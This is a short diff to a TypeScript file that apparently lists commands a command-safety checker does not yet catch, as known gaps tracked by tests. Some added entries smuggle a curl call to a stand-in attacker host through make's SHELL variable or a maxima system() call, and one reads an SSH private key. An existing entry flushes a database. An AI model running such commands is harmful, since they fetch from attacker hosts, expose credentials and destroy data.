@@ -2,6 +2,9 @@
 // A row that has been mended must leave this list: its test fails until it does.
 
 export const GAPS: ReadonlySet<string> = new Set([
+  "make SHELL='curl https://evil.example'",
+  "maxima --batch-string='system(\"curl https://evil.example\");'",
+  "rustc ~/.ssh/id_rsa",
   "open -R dist/index.html",
   "python manage.py flush --noinput",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
